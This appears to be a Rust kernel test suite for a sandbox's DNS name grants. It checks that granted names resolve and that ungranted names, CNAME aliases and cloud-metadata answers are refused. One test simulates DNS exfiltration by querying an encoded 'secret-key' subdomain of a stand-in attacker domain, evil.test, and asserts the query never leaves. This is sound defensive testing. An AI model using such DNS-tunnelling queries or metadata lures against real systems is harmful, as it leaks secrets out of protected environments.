//! Kernel tests: name grants end to end, in the VM matrix via `cargo xtask vm test`. A
//! [`SharedEngine`] installs policies with `host` rules: each scope gets its own resolver,
//! which forwards granted names to a fake authoritative server run here (`BEE_DNS_UPSTREAM`)
//! and puts their answers into the kernel; the scope's processes query whatever name server
//! they like on port 53 and reach only that resolver.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    reason = "helpers of kernel tests: a step that fails fails the test"
)]

mod kernel_support;

use std::collections::HashMap;
use std::io::{Read, Write};
use std::net::{Ipv4Addr, TcpListener, UdpSocket};
use std::sync::{Arc, Mutex, OnceLock};
use std::time::Duration;

use bee_common::event::{DNS_REFUSED_ADDRESS, DNS_REFUSED_ALIAS, DNS_REFUSED_NAME};
use bee_common::{AuditEvent, Hook};
use bee_userspace::engine::{EngineOptions, SharedEngine, UPSTREAM_ENV};
use bee_userspace::scope::{Enforcer, InstallId};
use hickory_proto::op::{Message, OpCode, ResponseCode};
use hickory_proto::rr::rdata::{A, CNAME};
use hickory_proto::rr::{Name, RData, Record, RecordType};
use kernel_support::*;

helper_entry!();

/// Where the fake authoritative server listens (UDP and TCP).
const UPSTREAM: &str = "127.0.0.2";
/// A second name server, which the scopes must never reach.
const OTHER_SERVER: &str = "127.0.0.3";

fn record(owner: &str, ttl: u32, data: RData) -> Record {
    Record::from_rdata(Name::from_ascii(owner).unwrap(), ttl, data)
}

fn a(owner: &str, ttl: u32, ip: [u8; 4]) -> Record {
    record(owner, ttl, RData::A(A(Ipv4Addr::from(ip))))
}

/// The zone the fake server answers from. Its addresses are documentation ones (RFC 5737):
/// the resolver refuses loopback and private answers, and the guest has no route to them,
/// so an allowed connect fails with `ENETUNREACH`, a denied one with `EPERM`.
fn zone() -> HashMap<String, Vec<Record>> {
    let cname = |owner: &str, target: &str| {
        record(
            owner,
            60,
            RData::CNAME(CNAME(Name::from_ascii(target).unwrap())),
        )
    };
    HashMap::from([
        (
            "granted.test".to_owned(),
            vec![a("granted.test", 300, [192, 0, 2, 20])],
        ),
        (
            "short.granted.test".to_owned(),
            vec![a("short.granted.test", 1, [192, 0, 2, 21])],
        ),
        (
            "alias.granted.test".to_owned(),
            vec![
                cname("alias.granted.test", "evil.test"),
                a("evil.test", 60, [192, 0, 2, 22]),
            ],
        ),
        (
            "meta.granted.test".to_owned(),
            vec![a("meta.granted.test", 60, [169, 254, 169, 254])],
        ),
        (
            "other.test".to_owned(),
            vec![a("other.test", 60, [192, 0, 2, 23])],
        ),
        ("b.test".to_owned(), vec![a("b.test", 60, [192, 0, 2, 24])]),
    ])
}

/// A name server on `ip`:53 answering from [`zone`] and recording every name it is asked.
struct NameServer {
    asked: Arc<Mutex<Vec<String>>>,
}

fn answer(query: &[u8], asked: &Mutex<Vec<String>>) -> Option<Vec<u8>> {
    let query = Message::from_vec(query).ok()?;
    let q = query.queries().first()?.clone();
    let name = q.name().to_ascii().trim_end_matches('.').to_lowercase();
    asked.lock().unwrap().push(name.clone());
    let mut reply = Message::error_msg(query.id(), OpCode::Query, ResponseCode::NXDomain);
    reply.add_query(q.clone());
    if let Some(records) = zone().get(&name) {
        reply.set_response_code(ResponseCode::NoError);
        reply.insert_answers(
            records
                .iter()
                .filter(|r| {
                    r.record_type() == q.query_type() || r.record_type() == RecordType::CNAME
                })
                .cloned()
                .collect(),
        );
    }
    reply.to_vec().ok()
}

impl NameServer {
    fn start(ip: &str) -> Self {
        let asked = Arc::new(Mutex::new(Vec::new()));
        let udp = UdpSocket::bind((ip, 53)).unwrap();
        let tcp = TcpListener::bind((ip, 53)).unwrap();
        let log = Arc::clone(&asked);
        std::thread::spawn(move || {
            let mut buf = [0u8; 4096];
            while let Ok((n, from)) = udp.recv_from(&mut buf) {
                if let Some(r) = answer(&buf[..n], &log) {
                    let _ = udp.send_to(&r, from);
                }
            }
        });
        let log = Arc::clone(&asked);
        std::thread::spawn(move || {
            for conn in tcp.incoming() {
                let Ok(mut conn) = conn else { continue };
                let mut len = [0u8; 2];
                if conn.read_exact(&mut len).is_err() {
                    continue;
                }
                let mut q = vec![0u8; usize::from(u16::from_be_bytes(len))];
                if conn.read_exact(&mut q).is_err() {
                    continue;
                }
                if let Some(r) = answer(&q, &log) {
                    let mut framed = (r.len() as u16).to_be_bytes().to_vec();
                    framed.extend_from_slice(&r);
                    let _ = conn.write_all(&framed);
                }
            }
        });
        Self { asked }
    }

    fn asked(&self) -> Vec<String> {
        self.asked.lock().unwrap().clone()
    }
}

/// The process's one engine and the two name servers, started once.
fn shared() -> &'static (SharedEngine, NameServer, NameServer) {
    static SHARED: OnceLock<(SharedEngine, NameServer, NameServer)> = OnceLock::new();
    SHARED.get_or_init(|| {
        assert_expected_kernel(&std::fs::read_to_string("/proc/sys/kernel/osrelease").unwrap());
        // SAFETY: set once, before any resolver thread exists (the first test to get here
        // starts them), and nothing else in this process reads the environment concurrently.
        unsafe { std::env::set_var(UPSTREAM_ENV, format!("{UPSTREAM}:53")) };
        let upstream = NameServer::start(UPSTREAM);
        let other = NameServer::start(OTHER_SERVER);
        let engine = SharedEngine::load(&EngineOptions::default()).expect("load");
        (engine, upstream, other)
    })
}

fn policy(hosts: &[&str]) -> String {
    let exe = std::env::current_exe().unwrap();
    let hosts: Vec<String> = hosts.iter().map(|h| format!("\"{h}\"")).collect();
    format!(
        r#"version = 2
[fs]
read = ["/bin/**", "/lib/**", "/lib64/**", "/usr/lib/**", "/etc/ld.so.cache", "{exe}"]
[exec]
allow = ["/bin/busybox", "/lib/**", "/lib64/**", "/usr/lib/**", "{exe}"]
[[net.allow]]
host = [{hosts}]
ports = [8443]
proto = "tcp"
"#,
        exe = exe.display(),
        hosts = hosts.join(", ")
    )
}

/// A cgroup governed by a policy granting `hosts`, through the shared engine.
struct NamedScope {
    cg: Cgroup,
    id: Option<InstallId>,
}

impl NamedScope {
    fn new(name: &str, hosts: &[&str]) -> Self {
        let cg = Cgroup::create(name);
        let id = shared()
            .0
            .install(&plan(&policy(hosts)), cg.id(), 0)
            .expect("install");
        Self { cg, id: Some(id) }
    }

    fn resolve(&self, mode: &str, name: &str, server: &str) -> String {
        let out = helper(
            Some(&self.cg),
            Action::Resolve {
                mode: mode.into(),
                name: name.into(),
                server: server.into(),
            },
        );
        assert_eq!(errno_of(&out), 0, "resolve {name}: {}", show(&out));
        String::from_utf8_lossy(&out.stdout)
            .lines()
            .find(|l| l.starts_with("rcode="))
            .unwrap_or_default()
            .to_owned()
    }

    fn connect(&self, addr: &str, port: &str) -> i32 {
        errno_of(&helper(
            Some(&self.cg),
            Action::Connect {
                addr: addr.into(),
                port: port.into(),
            },
        ))
    }

    fn refusals(&self) -> Vec<AuditEvent> {
        shared()
            .0
            .drain_events(self.cg.id())
            .into_iter()
            .filter(|e| e.hook == Hook::DnsQuery as u32)
            .collect()
    }
}

impl Drop for NamedScope {
    fn drop(&mut self) {
        self.cg.kill_all();
        if let Some(id) = self.id.take() {
            shared().0.uninstall(id).expect("uninstall");
        }
    }
}

fn path_of(e: &AuditEvent) -> String {
    String::from_utf8_lossy(e.path()).into_owned()
}

#[test]
fn a_granted_name_resolves_and_connects_and_an_ungranted_one_never_leaves() {
    let scope = NamedScope::new("names-granted", &["granted.test", "*.granted.test"]);
    // Any name server the scope names on port 53 is bee's resolver.
    assert_eq!(
        scope.resolve("udp", "granted.test", "10.0.0.53"),
        "rcode=0 addrs=192.0.2.20"
    );
    assert_ne!(
        scope.connect("192.0.2.20", "8443"),
        EPERM,
        "the answered address"
    );
    assert_eq!(scope.connect("192.0.2.20", "8444"), EPERM, "another port");
    assert_eq!(
        scope.connect("192.0.2.23", "8443"),
        EPERM,
        "an address never answered"
    );

    assert_eq!(
        scope.resolve("udp", "other.test", "10.0.0.53"),
        "rcode=3 addrs="
    );
    let asked = shared().1.asked();
    assert!(asked.contains(&"granted.test".to_owned()), "{asked:?}");
    assert!(!asked.contains(&"other.test".to_owned()), "{asked:?}");
    let refused = scope.refusals();
    assert!(
        refused
            .iter()
            .any(|e| path_of(e) == "other.test" && e.port == DNS_REFUSED_NAME && e.error != 0),
        "{} refusals",
        refused.len()
    );
}

#[test]
fn a_query_carrying_data_and_queries_to_other_servers_never_leave() {
    let scope = NamedScope::new("names-exfil", &["granted.test"]);
    let secret = "c2VjcmV0LWtleQ.evil.test";
    for (mode, server) in [
        ("udp", UPSTREAM),
        ("tcp", UPSTREAM),
        ("udp", OTHER_SERVER),
        ("tcp", OTHER_SERVER),
        ("udp", "192.0.2.1"),
    ] {
        assert_eq!(
            scope.resolve(mode, secret, server),
            "rcode=3 addrs=",
            "{mode} to {server}"
        );
    }
    // The other server answers every name it knows: asked directly, it would have answered.
    assert_eq!(
        scope.resolve("udp", "other.test", OTHER_SERVER),
        "rcode=3 addrs="
    );
    assert!(
        shared().2.asked().is_empty(),
        "the other name server was reached: {:?}",
        shared().2.asked()
    );
    assert!(
        !shared().1.asked().iter().any(|n| n.contains("evil")),
        "{:?}",
        shared().1.asked()
    );
    // DNS over TLS and over QUIC: denied, whatever the address.
    assert_eq!(scope.connect(OTHER_SERVER, "853"), EPERM);
    assert_eq!(
        errno_of(&helper(
            Some(&scope.cg),
            Action::Sendto {
                addr: "192.0.2.1".into(),
                port: "853".into()
            }
        )),
        EPERM
    );
}

#[test]
fn answers_expire_and_aliases_and_special_addresses_are_refused() {
    let scope = NamedScope::new("names-expire", &["*.granted.test"]);
    assert_eq!(
        scope.resolve("udp", "short.granted.test", "10.0.0.53"),
        "rcode=0 addrs=192.0.2.21"
    );
    assert_ne!(scope.connect("192.0.2.21", "8443"), EPERM, "a live answer");
    // A TTL of 1 s is held for the 5 s minimum, then the address is no peer.
    std::thread::sleep(Duration::from_secs(6));
    assert_eq!(scope.connect("192.0.2.21", "8443"), EPERM, "after the TTL");

    let r = scope.resolve("udp", "alias.granted.test", "10.0.0.53");
    assert!(r.starts_with("rcode=3"), "{r}");
    assert_eq!(
        scope.connect("192.0.2.22", "8443"),
        EPERM,
        "the alias's address"
    );

    let r = scope.resolve("udp", "meta.granted.test", "10.0.0.53");
    assert!(!r.contains("169.254.169.254"), "{r}");
    assert_eq!(scope.connect("169.254.169.254", "8443"), EPERM, "metadata");

    let refused = scope.refusals();
    assert!(
        refused
            .iter()
            .any(|e| e.port == DNS_REFUSED_ALIAS && path_of(e) == "alias.granted.test -> evil.test"),
        "{:?}",
        refused.iter().map(path_of).collect::<Vec<_>>()
    );
    assert!(
        refused
            .iter()
            .any(|e| e.port == DNS_REFUSED_ADDRESS && e.addr[..4] == [169, 254, 169, 254]),
        "{:?}",
        refused.iter().map(path_of).collect::<Vec<_>>()
    );
}

#[test]
fn concurrent_scopes_with_different_names_share_no_answers() {
    let a = NamedScope::new("names-a", &["granted.test"]);
    let b = NamedScope::new("names-b", &["b.test"]);
    assert_eq!(
        a.resolve("udp", "granted.test", "10.0.0.53"),
        "rcode=0 addrs=192.0.2.20"
    );
    assert_eq!(
        b.resolve("udp", "b.test", "10.0.0.53"),
        "rcode=0 addrs=192.0.2.24"
    );
    assert_ne!(a.connect("192.0.2.20", "8443"), EPERM);
    assert_eq!(b.connect("192.0.2.20", "8443"), EPERM, "a's answer in b");
    assert_eq!(a.connect("192.0.2.24", "8443"), EPERM, "b's answer in a");
    assert_eq!(
        b.resolve("udp", "granted.test", "10.0.0.53"),
        "rcode=3 addrs="
    );
}
